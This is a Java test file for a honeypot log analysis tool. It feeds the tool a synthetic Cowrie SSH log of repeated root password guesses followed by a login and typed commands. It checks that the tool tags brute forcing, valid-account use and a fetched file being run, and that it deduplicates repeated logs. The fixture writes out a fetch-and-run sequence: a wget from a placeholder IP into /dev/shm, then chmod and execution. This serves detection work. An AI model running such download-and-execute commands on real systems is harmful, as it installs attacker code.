package org.decnet.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What several lines of a sensor's log tell together. */
class SequencesTest {
  private static final Instant START = Instant.parse("2026-09-14T02:00:00Z");
  private static final String PEER = "198.51.100.77";
  private static final String GUESSED = "web-1:00000000000f";

  @TempDir private Path folder;
  private Cli cli;

  @BeforeEach
  void prepare() {
    cli = new Cli(folder.resolve("home"));
  }

  /**
   * Seven guesses, each in a session of its own, then a login, a download and what becomes of it.
   */
  private static List<String> attack() {
    List<String> log = new ArrayList<>();
    for (int i = 0; i < 7; i++) {
      log.add(login(i * 20, "00000000000" + i, "failed", "guess-" + i));
    }
    log.add(login(200, "00000000000f", "success", "guess-7"));
    log.add(typed(205, "cd /dev/shm"));
    log.add(typed(206, "wget -q http://203.0.113.20/kit"));
    log.add(typed(208, "chmod +x kit"));
    log.add(typed(209, "./kit 9"));
    log.add(record(300, "00000000000f", "session.closed", "\"duration\":100.0"));
    return log;
  }

  private static String login(int second, String session, String outcome, String password) {
    return record(
        second,
        session,
        "login." + outcome,
        "\"username\":\"root\",\"password\":\"" + password + "\"");
  }

  private static String typed(int second, String line) {
    return record(second, "00000000000f", "command.input", "\"input\":\"" + line + "\"");
  }

  private static String record(int second, String session, String event, String more) {
    return ("{\"eventid\":\"cowrie.%s\",\"session\":\"%s\",\"src_ip\":\"%s\",\"protocol\":\"ssh\","
            + "\"sensor\":\"web-1\",\"timestamp\":\"%s\",\"message\":\"%s\",%s}")
        .formatted(event, session, PEER, START.plusSeconds(second), event, more);
  }

  private Map<String, Object> ingest(List<String> lines) throws IOException {
    Path log = Files.write(folder.resolve("cowrie.json"), lines);
    return cli.run("ingest", log.toString(), "--json").succeeded().json();
  }

  private List<Map<String, Object>> tagsOfTheGuessedSession() {
    Cli.Ending ending = cli.run("show", "session", GUESSED, "--json").succeeded();
    List<Map<String, Object>> tags = new ArrayList<>(ending.rows("other_tags"));
    for (Map<String, Object> command : ending.rows("commands")) {
      tags.addAll(tagsOf(command));
    }
    return tags;
  }

  @SuppressWarnings("unchecked")
  private static List<Map<String, Object>> tagsOf(Map<String, Object> command) {
    return (List<Map<String, Object>>) Objects.requireNonNull(command.get("tags"));
  }

  private static Stream<String> rules(List<Map<String, Object>> tags) {
    return tags.stream().map(tag -> String.valueOf(tag.get("rule_id")));
  }

  @Test
  void guessesThatEndInALoginAreTaggedFromTheRawLog() throws IOException {
    assertThat(ingest(attack())).containsEntry("late_events", 0);

    assertThat(cli.run("techniques", "--json").rows("data"))
        .extracting(row -> row.get("technique_id") + " " + row.get("rules"))
        .contains("T1110 [R0001]", "T1110 [R0002]", "T1078 [R0005]");
    assertThat(tagsOfTheGuessedSession())
        .filteredOn(tag -> "R0005".equals(tag.get("rule_id")))
        .singleElement()
        .satisfies(tag ->
            assertThat(String.valueOf(tag.get("evidence")))
                .contains("username=root", "service=ssh")
                .doesNotContain("guess-"));
  }

  @Test
  void aFetchedFileIsTaggedWhereItRuns() throws IOException {
    ingest(attack());

    List<Map<String, Object>> commands =
        cli.run("show", "session", GUESSED, "--json").rows("commands");
    assertThat(commands)
        .filteredOn(row -> rules(tagsOf(row)).anyMatch("R0080"::equals))
        .extracting(row -> row.get("command_text"))
        .containsExactly("./kit 9");
    assertThat(rules(tagsOfTheGuessedSession())).contains("R0075", "R0080", "R0012");
  }

  @Test
  void theSameLogAgainAndLinesInAnotherOrderAddNoTag() throws IOException {
    Map<String, Object> first = ingest(attack());
    assertThat(ingest(attack()))
        .containsEntry("new_tags", 0)
        .containsEntry("tags", first.get("tags"));

    List<String> logins = new ArrayList<>(attack());
    Collections.swap(logins, 0, 6);
    Collections.swap(logins, 1, 4);
    assertThat(ingest(logins))
        .containsEntry("new_tags", 0)
        .containsEntry("tags", first.get("tags"));
  }

  @Test
  void fourGuessesAreNoRun() throws IOException {
    ingest(attack().subList(0, 4));

    assertThat(cli.run("techniques", "--json").rows("data")).isEmpty();
  }
}
